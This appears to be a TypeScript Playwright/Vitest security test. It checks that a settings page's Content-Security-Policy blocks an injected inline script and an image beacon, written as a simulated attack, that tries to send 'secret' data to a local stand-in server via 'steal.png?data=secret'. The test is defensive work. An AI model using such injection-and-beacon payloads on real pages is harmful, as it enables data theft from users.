import { createServer, type Server } from 'node:http';
import type { Browser } from 'playwright';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { appHarness, type AppHarness } from '../support/app-harness';
import { standardFake, type FakeDataFast } from '../support/fake-datafast';
import { launchChromium, openSettingsPage, type SettingsPage } from '../support/settings-page';

/**
 * The settings page under its own Content-Security-Policy, in Chromium: what an attacker who got
 * markup into the page would try (an inline script, an image that carries data off the machine)
 * is blocked and reported, and the remote server never hears from the page.
 */
describe('settings page content security policy', () => {
  let fake: FakeDataFast;
  let browser: Browser;
  let app: AppHarness;
  let window: SettingsPage;
  let remote: Server;
  const remoteRequests: string[] = [];
  let remoteUrl = '';

  beforeAll(async () => {
    fake = await standardFake();
    browser = await launchChromium();
    remote = createServer((request, response) => {
      remoteRequests.push(request.url ?? '');
      response.writeHead(200, { 'content-type': 'image/png' });
      response.end();
    });
    await new Promise<void>((resolve) => remote.listen(0, '127.0.0.1', resolve));
    const address = remote.address();
    if (address === null || typeof address === 'string') throw new Error('no port');
    remoteUrl = `http://127.0.0.1:${address.port}`;
    app = await appHarness(fake.url);
    window = await openSettingsPage(browser, app.controller);
  });
  afterAll(async () => {
    await window.close();
    await app.close();
    await browser.close();
    await fake.close();
    await new Promise<void>((resolve) => remote.close(() => resolve()));
  });

  it('blocks an injected inline script and a remote image, and reports both', async () => {
    // Runs in the page, as markup slipped into it would (a string: this side has no DOM types).
    const attack = `(async () => {
      const violations = [];
      document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective + ' ' + event.blockedURI));
      const script = document.createElement('script');
      script.textContent = 'window.__injectedScriptRan = true;';
      document.body.append(script);
      const image = new Image();
      image.src = ${JSON.stringify(`${remoteUrl}/steal.png?data=secret`)};
      document.body.append(image);
      for (let waited = 0; violations.length < 2 && waited < 3000; waited += 50) await new Promise((resolve) => setTimeout(resolve, 50));
      return { violations, ran: window.__injectedScriptRan === true };
    })()`;
    const outcome = await window.page.evaluate<{ violations: string[]; ran: boolean }>(attack);
    expect(outcome.ran).toBe(false);
    expect(outcome.violations).toEqual(expect.arrayContaining(['script-src-elem inline', `img-src ${remoteUrl}/steal.png?data=secret`]));
    expect(remoteRequests).toEqual([]);
  });
});
